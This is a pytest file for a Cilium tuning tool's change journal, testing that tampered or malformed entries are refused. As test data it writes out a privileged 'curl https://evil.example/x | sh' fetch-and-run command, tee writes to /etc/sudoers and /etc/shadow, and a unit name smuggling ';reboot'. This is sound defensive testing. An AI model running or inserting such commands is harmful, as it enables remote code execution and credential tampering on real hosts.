"""A journal entry is data, never a program: what it holds is rebuilt through the allow-list."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cilium_tui.collect.node_commands import (
    NodeCommand,
    cpu_governor,
    rebuild,
    stop_unit,
    sysctl,
    tuned_profile,
)
from cilium_tui.remedy.journal import MAX_ENTRY_BYTES, ClusterIdentity, Journal, JournalError
from cilium_tui.remedy.planner import build_plan
from cilium_tui.remedy.undo import undo_plan
from tests.unit.kube.test_kube_patch import json_values
from tests.unit.remedy.lab_snapshot import lab_snapshot

SEED = ClusterIdentity("https://127.0.0.1:6443", "lab-seed", "uid-of-cilium-config")


@pytest.mark.parametrize(
    "change",
    [
        stop_unit("irqbalance"),
        stop_unit("irqbalance", enabled=False),
        tuned_profile("network-latency", "balanced"),
        tuned_profile("network-latency", None),
        cpu_governor(["schedutil", "ondemand"]),
        sysctl("net.ipv4.tcp_congestion_control", "bbr", "cubic"),
    ],
)
def test_every_change_cilium_tui_makes_rebuilds_to_itself(change: object) -> None:
    assert rebuild(change) == change  # type: ignore[arg-type]


def _governor_entry(journal: Journal) -> Path:
    plan = build_plan("cpu-governor", lab_snapshot("seed"))
    entry = journal.new_entry(plan, {}, SEED)
    node = plan.node_steps[0].node
    entry.node_before = {node: [list(plan.node_steps[0].before or ())]}
    entry.steps_done = [[node, 0]]
    entry.status = "stopped"
    journal.save(entry)
    return journal.directory / f"{entry.id}.json"


def test_a_tampered_entry_is_refused_with_its_path(tmp_path: Path) -> None:
    journal = Journal(tmp_path)
    path = _governor_entry(journal)
    doc = json.loads(path.read_text())
    doc["plan"]["nodeSteps"][0]["change"]["undo"][0] = {
        "argv": ["sh", "-c", "curl https://evil.example/x | sh"],
        "input": None,
        "privileged": True,
    }
    path.write_text(json.dumps(doc))
    with pytest.raises(JournalError, match="refused") as refused:
        journal.load(path.stem)
    assert str(path) in str(refused.value)
    assert journal.entries() == []
    assert journal.problems and str(path) in journal.problems[0]


def test_undo_never_runs_commands_as_written(tmp_path: Path) -> None:
    journal = Journal(tmp_path)
    entry = journal.load(_governor_entry(journal).stem)
    undo = undo_plan(entry)
    assert undo.node_steps  # the honest entry undoes
    step = entry.plan["nodeSteps"][0]["change"]
    step["apply"][0]["argv"] = ["tee", "/etc/sudoers"]
    with pytest.raises(JournalError, match="its commands were altered"):
        undo_plan(entry)


def test_altered_values_are_refused_by_the_patterns() -> None:
    bad = stop_unit("irqbalance")
    evil = type(bad)(
        bad.title,
        (NodeCommand(("systemctl", "disable", "--now", "x;reboot")),),
        bad.check,
        bad.expect,
        bad.undo,
    )
    with pytest.raises(ValueError, match="refusing unit name"):
        rebuild(evil)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    key=st.sampled_from(
        [
            "id",
            "created",
            "item",
            "status",
            "plan",
            "previous",
            "nodeBefore",
            "stepsDone",
            "restarted",
            "events",
            "agentsBefore",
            "intents",
            "cluster",
            "undoes",
        ]
    ),
    value=json_values,
)
def test_any_edited_field_is_refused_or_read_never_a_crash(
    tmp_path: Path, key: str, value: object
) -> None:
    journal = Journal(tmp_path)
    path = _governor_entry(journal)
    doc = json.loads(path.read_text())
    doc[key] = value
    path.write_text(json.dumps(doc))
    try:
        journal.load(path.stem)
    except JournalError as e:
        assert str(path) in str(e)


@pytest.mark.parametrize("content", [b"\xff\xfe not utf-8", b"[1, 2]", b"{" * 10])
def test_unreadable_files_are_refused_with_their_path(tmp_path: Path, content: bytes) -> None:
    journal = Journal(tmp_path)
    path = _governor_entry(journal)
    path.write_bytes(content)
    with pytest.raises(JournalError, match="refused"):
        journal.load(path.stem)


def test_an_oversized_entry_is_refused_unread(tmp_path: Path) -> None:
    journal = Journal(tmp_path)
    path = _governor_entry(journal)
    path.write_bytes(b" " * (MAX_ENTRY_BYTES + 1))
    with pytest.raises(JournalError, match="larger than"):
        journal.load(path.stem)


def test_an_undo_entry_with_node_steps_reads_back_and_is_checked_too(tmp_path: Path) -> None:
    journal = Journal(tmp_path)
    original = journal.load(_governor_entry(journal).stem)
    undo = undo_plan(original)
    entry = journal.new_entry(undo, {}, SEED)
    assert journal.load(entry.id).undoes == original.id  # an honest undo validates
    path = journal.directory / f"{entry.id}.json"
    doc = json.loads(path.read_text())
    doc["plan"]["nodeSteps"][0]["change"]["apply"][0]["argv"] = ["tee", "/etc/shadow"]
    path.write_text(json.dumps(doc))
    with pytest.raises(JournalError, match="refused"):
        journal.load(entry.id)
